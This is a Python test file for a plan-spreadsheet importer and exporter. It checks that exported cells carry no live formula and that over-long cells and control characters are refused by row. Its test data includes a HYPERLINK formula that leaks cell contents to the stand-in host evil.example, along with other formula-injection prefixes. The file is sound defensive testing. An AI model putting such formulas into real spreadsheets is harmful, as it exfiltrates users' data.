"""Spreadsheets in and out hold against hostile cells: no live formula in an export, and no
cell a database cannot store (over-long, control characters) gets past the reader."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from bot.plan.importer import export_plan, import_plan
from bot.plan.queries import get_action, get_plan
from bot.plan.services import Actor, add_note
from bot.plan.spreadsheet import MAX_CELL_CHARS, SheetRefused, protect_cell, read_plan_csv
from tests.helpers.plans import ALICE, TEAM, load

HEADER = "Recommendation,Ref,Actions,Owner,Delivery Date,Status,Notes"
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=cmd", "=1", "'=already quoted", "''two apostrophes", "'Tis an apostrophe")


def _import(sessions, now, text: str, key: str = "ppr") -> None:
    with sessions.begin() as session:
        import_plan(session, read_plan_csv(text), key=key, actor=Actor.cli("test"), now=now, title="Plan")


def _export(sessions, key: str = "ppr") -> str:
    with sessions.read() as session:
        return export_plan(session, key, date(2026, 11, 22))


def _cells(exported: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(exported)) for cell in row]


@pytest.mark.parametrize("value", FORMULAS)
def test_protect_cell_round_trips_through_the_reader(value):
    protected = protect_cell(value)
    assert not protected.startswith(("=", "+", "-", "@", "\t", "\r"))
    text = f'{HEADER}\n1) Rec,1.1,"{protected.replace(chr(34), chr(34) * 2)}",Head of Protection,01/12/2026,,\n'
    assert read_plan_csv(text).actions[0].description == value


def test_an_export_carries_no_live_formula_and_reimports_exactly(sessions, now):
    load(sessions, now)
    with sessions.begin() as session:
        plan = get_plan(session, "ppr")
        add_note(session, get_action(session, plan, "1.1"), Actor(ALICE, TEAM), now, FORMULAS[0])
    rows = [HEADER] + [
        f'{n}) Recommendation {n},{protect_cell(f"-{n}")},"{protect_cell(f).replace(chr(34), chr(34) * 2)}",'
        f'{protect_cell("@Owner " + str(n))},01/12/2026,,{protect_cell("+note")}'
        for n, f in enumerate(FORMULAS, 1)
    ]
    _import(sessions, now, "\n".join(rows) + "\n", key="evil")

    for key in ("ppr", "evil"):
        exported = _export(sessions, key)
        live = [cell for cell in _cells(exported) if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert live == []
        _import(sessions, now, exported, key=f"{key}-copy")
        assert _export(sessions, f"{key}-copy") == exported
    with sessions.read() as session:
        copy = get_plan(session, "evil-copy")
        assert get_action(session, copy, "-1").description == FORMULAS[0]
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"' in _export(sessions, "ppr")


def test_a_cell_over_the_limit_is_refused_by_row_naming_the_limit():
    long = "x" * (MAX_CELL_CHARS + 1)
    text = f"{HEADER}\n1) Rec,1.1,Fine,Head of Protection,01/12/2026,,\n2) Rec,2.1,{long},Head,01/12/2026,,\n"
    with pytest.raises(SheetRefused) as refused:
        read_plan_csv(text)
    assert [str(p) for p in refused.value.problems] == [
        f"row 3: Actions is {MAX_CELL_CHARS + 1:,} characters long; the most a cell may hold is {MAX_CELL_CHARS:,}."
    ]


def test_a_ten_megabyte_cell_is_refused_by_row_without_a_traceback():
    giant = "y" * 10_000_000
    text = f"{HEADER}\n1) Rec,1.1,Fine,Head of Protection,01/12/2026,,\n2) Rec,2.1,{giant},Head,01/12/2026,,\n"
    with pytest.raises(SheetRefused) as refused:
        read_plan_csv(text)
    assert [str(p) for p in refused.value.problems] == [
        "row 3: a cell is longer than 131,072 characters, the most a cell may hold."
    ]


def test_an_over_long_ref_or_role_is_refused_by_row():
    text = f"{HEADER}\n1) Rec,{'r' * 33},Fine,{'Head ' * 50},01/12/2026,,\n"
    with pytest.raises(SheetRefused) as refused:
        read_plan_csv(text)
    assert [str(p) for p in refused.value.problems] == [
        "row 2: Ref is 33 characters long; the most a cell may hold is 32.",
        "row 2: A role in Owner is 249 characters long; the most a cell may hold is 200.",
    ]


@pytest.mark.parametrize(("character", "code"), [("\x00", "U+0000"), ("\x07", "U+0007"), ("\x1b", "U+001B")])
def test_a_control_character_is_refused_by_row_and_nothing_is_written(sessions, now, character, code):
    text = f"{HEADER}\n1) Rec,1.1,Fine,Head,01/12/2026,,\n2) Rec,2.1,Bad{character}one,Head,01/12/2026,,\n"
    with pytest.raises(SheetRefused) as refused:
        _import(sessions, now, text)
    assert [str(p) for p in refused.value.problems] == [
        f"row 3: Actions contains a control character ({code}) that cannot be stored; remove it."
    ]
    with sessions.read() as session, pytest.raises(Exception, match="no plan"):
        get_plan(session, "ppr")
